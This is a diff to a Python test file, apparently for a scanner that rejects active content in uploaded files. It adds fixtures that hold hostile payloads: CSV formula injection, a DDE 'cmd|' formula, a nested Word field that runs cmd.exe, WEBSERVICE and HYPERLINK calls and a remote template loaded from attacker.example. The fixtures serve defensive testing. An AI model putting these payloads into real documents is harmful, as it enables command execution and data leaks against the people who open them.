@@ -317,6 +317,9 @@ CSV_FORMULAS = [
     ("after-tab.csv", b'a,b\n1,"\t=IMAGE(""https://attacker.example/p.png"")"\n', "row 2, column B: `=IMAGE("),
     ("semicolons.csv", b"a;b;c\n1;2;=cmd|' /C calc'!A0\n", "row 2, column C: `=cmd|"),
     ("tabs.csv", b"a\tb\n1\t =WEBSERVICE(A1)\n", "row 2, column B: `=WEBSERVICE(A1)`"),
+    # Excel takes `sep=|` on the first line as the delimiter (eighth attacker).
+    ("sep.csv", b'sep=|\nQuestion|Link\nAgree scope|=HYPERLINK("http://attacker.example/","Open")\n',
+     'row 3, column B: `=HYPERLINK("http://attacker.example/"'),
 ]
 # Numbers, phone numbers and a neutralised formula: data, published.
 GOOD_CSV = (b"Name,Phone,Change,Note\nPlanning team,+44 131 623 4300,-5,'=not a formula\n"
@@ -485,6 +488,20 @@ OFFICE_ACTIVE = [
     ("padded.docx", with_part(word("word/document.xml", field(" PAGE ")), "word/glossary/x.dat", b" " * 70_000 + (
         f'<w:document {W_NS}><w:body>' + field(' INCLUDEPICTURE "https://attacker.example/a.png" ')
         + "</w:body></w:document>").encode()), f"has a field code INCLUDEPICTURE {FETCHES} (in `word/glossary/x.dat`)"),
+    # Eighth attacker: a field's name made by a field inside it, Excel 2010's
+    # `xm:f` formulas, a relationships part in UTF-16 with no byte-order mark.
+    ("quote.docx", word("word/document.xml", '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field(
+        " QUOTE 68 68 69 65 85 84 79 ")[5:-6] + '<w:r><w:instrText> c:\\windows\\system32\\cmd.exe "/k calc.exe"'
+        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
+     "has a field whose name is made by another field inside it"),
+    ("x14.xlsx", package({"xl/worksheets/sheet1.xml": f'<worksheet {X_NS} xmlns:xm="http://schemas.microsoft.com/'
+                          'office/excel/2006/main"><extLst><ext><xm:f>ISERROR(WEBSERVICE("https://attacker.example/"))'
+                          "</xm:f></ext></extLst></worksheet>"}), "uses WEBSERVICE, which reaches another computer"),
+    ("utf16.docx", with_part(word("word/document.xml", field(" PAGE ")), "word/_rels/settings.xml.rels",
+                             ('<?xml version="1.0" encoding="UTF-16"?>' + relationships(
+                                 f'Id="rId1" Type="{TEMPLATE}" Target="http://attacker.example/t.dotm" '
+                                 'TargetMode="External"')).encode("utf-16-be")),
+     f"loads `http://attacker.example/t.dotm` {LOADS}"),
     ("ole.odt", odt('<office:body><office:text><text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/>'
                     "</draw:frame></text:p></office:text></office:body>"), "holds an embedded object (`draw:object-ole`)"),
     # OpenDocument's formulas, linked pictures and sections (sixth attacker).
@@ -694,7 +711,20 @@ def image_variants() -> dict[str, bytes]:
             "palette.png": png_of(palette_header, (b"PLTE", b"\x00\x00\x00"), indexed, end),
             "gamma.png": png_of(header, (b"gAMA", struct.pack(">I", 0)), data, end),
             "text-checksum.png": png_of(header, data, (b"tEXt", b"a\x00b", 1), end),
-            "jpeg.jpg": jpeg(), "progressive.jpg": progressive(100), "cut.jpg": jpeg()[:-20]}
+            "jpeg.jpg": jpeg(), "progressive.jpg": progressive(100), "cut.jpg": jpeg()[:-20],
+            "ok.gif": plain_gif(), "no-table.gif": plain_gif(table=False)}
+
+
+def plain_gif(table: bool = True) -> bytes:
+    """A 4 x 4 GIF; without `table`, its colour table taken out (no frame then has one)."""
+    from PIL import Image
+    out = io.BytesIO()
+    Image.new("P", (4, 4), 1).save(out, "GIF")
+    data = out.getvalue()
+    if table:
+        return data
+    size = 3 << ((data[10] & 7) + 1)
+    return data[:10] + bytes([data[10] & 0x7F]) + data[11:13] + data[13 + size:]
 
 
 @pytest.mark.parametrize("name", list(image_variants()))
